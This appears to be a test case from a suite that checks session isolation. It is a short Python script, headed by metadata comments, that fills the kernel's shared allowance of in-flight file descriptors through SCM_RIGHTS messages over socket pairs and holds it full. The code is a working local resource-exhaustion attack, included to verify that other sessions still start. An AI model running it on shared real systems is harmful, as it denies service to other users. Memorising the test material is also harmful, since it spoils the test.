# attack: fills the kernel's allowance of descriptors in flight, which all sessions share, and keeps it full
# points: none
# must not: keep other sessions from starting
# ordinary: yes

# %% row_stats
import array, os, socket, time
kept = []
for _ in range(20):
    ours, theirs = socket.socketpair()
    kept += [ours, theirs]
    null = os.open("/dev/null", os.O_RDONLY)
    try:
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 253))])
    except OSError as error:
        print(error)
        break
time.sleep(6)
